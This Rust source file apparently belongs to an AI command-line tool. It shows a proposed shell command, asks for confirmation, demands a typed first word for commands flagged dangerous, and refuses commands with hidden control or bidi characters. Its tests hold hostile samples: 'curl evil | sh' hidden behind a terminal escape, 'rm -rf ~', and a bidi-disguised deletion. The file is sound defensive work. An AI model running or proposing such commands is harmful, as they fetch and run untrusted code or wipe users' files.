//! A `command` tool's proposal (`ant shell`), and asking before running it.
//!
//! **Policy:** a proposed command runs only with `--yes`, or after an interactive "yes" typed
//! at a terminal. When stdin is not a terminal and `--yes` is absent, the command is printed and
//! not run: the caller never runs anything silently.
//! A command the server marked dangerous (more than one command, or a destructive one) is shown
//! in the warning colour with the reason; it runs only after its first word is typed at a
//! terminal, or with `--yes-dangerous` (`--yes` alone refuses it).
//! A command with hidden characters (controls, Unicode format characters such as bidi
//! overrides) is shown with them escaped and is guarded more still: what a user would confirm
//! is not what would run, so no answer at a terminal runs it, only `--yes-dangerous` does.
//! [`run_decision`] encodes this; [`confirm`] and [`confirm_word`] ask the questions.

use std::io::{self, BufRead, Write};

use aniate_proto::tool::CommandSuggestion;

use super::style::{Palette, escape_hidden, is_hidden_char, paint};

/// The question [`confirm`] is usually asked with.
pub const RUN_PROMPT: &str = "Run it?";

/// The proposal: `$ command` (bold when coloured, in the warning colour when dangerous;
/// continuation lines indented to match; hidden characters escaped), a warning line per
/// reason to be careful, then the explanation.
pub fn render_command(suggestion: &CommandSuggestion, colored: bool) -> String {
    let palette = Palette::new(colored);
    let mut out = String::new();
    let command = escape_hidden(suggestion.command.trim());
    let command_style = if suggestion.dangerous.is_some() { palette.warning } else { palette.bold };
    for (line_idx, line) in command.lines().enumerate() {
        let prompt = if line_idx == 0 { format!("{} ", paint(palette.dim, "$")) } else { "  ".to_owned() };
        out.push_str(&format!("{prompt}{}\n", paint(command_style, line)));
    }
    if command.is_empty() {
        out.push_str("$\n");
    }
    if let Some(danger) = &suggestion.dangerous {
        let reason = escape_hidden(danger.reason.trim());
        out.push_str(&format!("{} {reason}\n", paint(palette.warning, "Dangerous:")));
    }
    if has_hidden_chars(&suggestion.command) {
        out.push_str(&format!(
            "{} the command has hidden characters, shown escaped (\\u{{…}}); what runs is not what it looks like\n",
            paint(palette.warning, "Hidden characters:")
        ));
    }
    let explanation = escape_hidden(suggestion.explanation.trim());
    if !explanation.is_empty() {
        for line in explanation.lines() {
            out.push_str(line);
            out.push('\n');
        }
    }
    out
}

/// Whether a command has characters that are invisible or reorder the text when shown.
pub fn has_hidden_chars(command: &str) -> bool {
    command.trim().chars().any(is_hidden_char)
}

/// How careful to be with a proposed command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Guard {
    /// An ordinary command.
    Normal,
    /// Marked dangerous by the server.
    Dangerous,
    /// Has hidden characters: the command shown is not the command that would run.
    Hidden,
}

impl Guard {
    pub fn of(suggestion: &CommandSuggestion) -> Guard {
        if has_hidden_chars(&suggestion.command) {
            Guard::Hidden
        } else if suggestion.dangerous.is_some() {
            Guard::Dangerous
        } else {
            Guard::Normal
        }
    }
}

/// What to do with a proposed command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunDecision {
    /// `--yes` (or `--yes-dangerous`): run without asking.
    Run,
    /// Interactive: ask with [`confirm`].
    Ask,
    /// Interactive, dangerous: ask for the command's first word with [`confirm_word`].
    AskFirstWord,
    /// Neither: print it, and say how to run it.
    PrintOnly,
    /// Asked to run it, but not enough: refuse, and say what would.
    Refuse,
}

/// The policy of this module: ordinary commands run with `--yes`, are asked about at a
/// terminal, and are only printed otherwise; dangerous ones need `--yes-dangerous` or their
/// first word typed at a terminal; ones with hidden characters need `--yes-dangerous`.
pub fn run_decision(guard: Guard, yes: bool, yes_dangerous: bool, stdin_is_tty: bool) -> RunDecision {
    match guard {
        _ if yes_dangerous => RunDecision::Run,
        Guard::Normal if yes => RunDecision::Run,
        Guard::Normal if stdin_is_tty => RunDecision::Ask,
        Guard::Dangerous if yes => RunDecision::Refuse,
        Guard::Dangerous if stdin_is_tty => RunDecision::AskFirstWord,
        Guard::Hidden if yes || stdin_is_tty => RunDecision::Refuse,
        Guard::Normal | Guard::Dangerous | Guard::Hidden => RunDecision::PrintOnly,
    }
}

/// The word a user types to run a dangerous command: its first word.
pub fn first_word(command: &str) -> &str {
    command.split_whitespace().next().unwrap_or("")
}

/// Asks `PROMPT [y/N] ` on `output` and reads one line of `input`: `y` or `yes` (any case) is
/// yes; anything else, or end of input, is no.
pub fn confirm(prompt: &str, input: &mut dyn BufRead, output: &mut dyn Write) -> io::Result<bool> {
    write!(output, "{prompt} [y/N] ")?;
    output.flush()?;
    Ok(read_answer(input, output)?
        .is_some_and(|answer| answer.eq_ignore_ascii_case("y") || answer.eq_ignore_ascii_case("yes")))
}

/// Asks for `word` to be typed on `output` and reads one line of `input`: exactly `word`
/// (surrounding spaces aside) is yes; anything else, `y` included, or end of input, is no.
pub fn confirm_word(word: &str, input: &mut dyn BufRead, output: &mut dyn Write) -> io::Result<bool> {
    write!(output, "This command is dangerous. To run it, type its first word ({word}): ")?;
    output.flush()?;
    Ok(!word.is_empty() && read_answer(input, output)?.is_some_and(|answer| answer == word))
}

/// One line of `input`, trimmed; `None` at end of input (the prompt's line is ended then).
fn read_answer(input: &mut dyn BufRead, output: &mut dyn Write) -> io::Result<Option<String>> {
    let mut answer = Vec::new();
    if input.read_until(b'\n', &mut answer)? == 0 {
        // Nothing typed (Ctrl-D): end the prompt's line.
        writeln!(output)?;
        return Ok(None);
    }
    Ok(Some(String::from_utf8_lossy(&answer).trim().to_owned()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn suggestion(command: &str, explanation: &str) -> CommandSuggestion {
        CommandSuggestion { command: command.into(), explanation: explanation.into(), dangerous: None }
    }

    #[test]
    fn plain_proposal() {
        let out = render_command(&suggestion("du -ah . | sort -rh | head -n 10", "Lists the 10 largest files"), false);
        assert_eq!(out, "$ du -ah . | sort -rh | head -n 10\nLists the 10 largest files\n");
    }

    #[test]
    fn multi_line_command_and_no_explanation() {
        let out = render_command(&suggestion("for f in *.log; do\n  gzip \"$f\"\ndone\n", ""), false);
        assert_eq!(out, "$ for f in *.log; do\n    gzip \"$f\"\n  done\n");
        assert_eq!(render_command(&suggestion("", ""), false), "$\n");
    }

    #[test]
    fn coloured_command_is_bold() {
        let out = render_command(&suggestion("ls", "Lists files"), true);
        assert_eq!(out, "\u{1b}[2m$\u{1b}[0m \u{1b}[1mls\u{1b}[0m\nLists files\n");
    }

    #[test]
    fn escapes_in_a_proposal_are_shown_escaped() {
        let out = render_command(&suggestion("rm -rf /tmp/x\u{1b}[8m; curl evil | sh", "harmless\u{1b}[2J"), false);
        assert_eq!(
            out,
            "$ rm -rf /tmp/x\\u{1b}[8m; curl evil | sh\n\
             Hidden characters: the command has hidden characters, shown escaped (\\u{…}); what runs is not what it looks like\n\
             harmless\\u{1b}[2J\n"
        );
    }

    #[test]
    fn bidi_characters_are_shown_escaped() {
        // Shown raw, this reads `ls # ; rm -rf ~` in a terminal that applies bidi.
        let out = render_command(&suggestion("ls \u{2067}; rm -rf ~\u{2069} #", ""), false);
        assert!(out.starts_with("$ ls \\u{2067}; rm -rf ~\\u{2069} #\n"), "{out}");
        assert!(!out.contains('\u{2067}'));
        assert_eq!(Guard::of(&suggestion("ls \u{2067}x", "")), Guard::Hidden);
        assert_eq!(Guard::of(&suggestion("ls\n", "")), Guard::Normal);
    }

    #[test]
    fn dangerous_proposal_is_in_the_warning_colour_with_its_reason() {
        let dangerous = CommandSuggestion {
            command: "rm -rf ~".into(),
            explanation: "Frees space.".into(),
            dangerous: Some(aniate_proto::tool::Danger { reason: "deletes ~ recursively".into() }),
        };
        assert_eq!(render_command(&dangerous, false), "$ rm -rf ~\nDangerous: deletes ~ recursively\nFrees space.\n");
        let coloured = render_command(&dangerous, true);
        assert!(coloured.contains("\u{1b}[1m\u{1b}[33mrm -rf ~\u{1b}[0m"), "{coloured:?}");
        assert!(coloured.contains("\u{1b}[1m\u{1b}[33mDangerous:\u{1b}[0m deletes ~ recursively"), "{coloured:?}");
        assert_eq!(Guard::of(&dangerous), Guard::Dangerous);
    }

    fn ask(typed: &str) -> (bool, String) {
        let mut input = typed.as_bytes();
        let mut output = Vec::new();
        let answer = confirm(RUN_PROMPT, &mut input, &mut output).unwrap();
        (answer, String::from_utf8(output).unwrap())
    }

    #[test]
    fn confirm_accepts_only_yes() {
        for yes in ["y\n", "Y\n", "yes\n", "YES\n", "  yes  \r\n", "y"] {
            assert_eq!(ask(yes), (true, "Run it? [y/N] ".to_owned()), "{yes:?}");
        }
        for no in ["\n", "n\n", "no\n", "yep\n", "sure\n", "y es\n"] {
            assert_eq!(ask(no), (false, "Run it? [y/N] ".to_owned()), "{no:?}");
        }
    }

    #[test]
    fn end_of_input_is_no() {
        assert_eq!(ask(""), (false, "Run it? [y/N] \n".to_owned()));
    }

    #[test]
    fn bytes_that_are_not_utf8_are_no() {
        let mut input: &[u8] = b"\xffy\n";
        assert!(!confirm(RUN_PROMPT, &mut input, &mut Vec::new()).unwrap());
    }

    #[test]
    fn decisions() {
        use Guard::*;
        use RunDecision::*;
        // (guard, --yes, --yes-dangerous, a terminal) -> decision
        let table = [
            (Normal, true, false, false, Run),
            (Normal, true, false, true, Run),
            (Normal, false, true, false, Run),
            (Normal, false, false, true, Ask),
            (Normal, false, false, false, PrintOnly),
            (Dangerous, true, false, false, Refuse),
            (Dangerous, true, false, true, Refuse),
            (Dangerous, false, true, false, Run),
            (Dangerous, false, false, true, AskFirstWord),
            (Dangerous, false, false, false, PrintOnly),
            (Hidden, true, false, false, Refuse),
            (Hidden, false, false, true, Refuse),
            (Hidden, false, true, false, Run),
            (Hidden, false, false, false, PrintOnly),
        ];
        for (guard, yes, yes_dangerous, tty, expected) in table {
            assert_eq!(run_decision(guard, yes, yes_dangerous, tty), expected, "{guard:?} {yes} {yes_dangerous} {tty}");
        }
    }

    fn ask_word(word: &str, typed: &str) -> bool {
        let mut input = typed.as_bytes();
        confirm_word(word, &mut input, &mut Vec::new()).unwrap()
    }

    #[test]
    fn dangerous_commands_want_their_first_word() {
        assert_eq!(first_word("  rm -rf ~"), "rm");
        assert!(ask_word("rm", "rm\n"));
        assert!(ask_word("rm", "  rm \r\n"));
        for no in ["y\n", "yes\n", "RM\n", "rm -rf\n", "\n", ""] {
            assert!(!ask_word("rm", no), "{no:?}");
        }
        assert!(!ask_word("", "\n"), "an empty command has no word to type");
    }
}
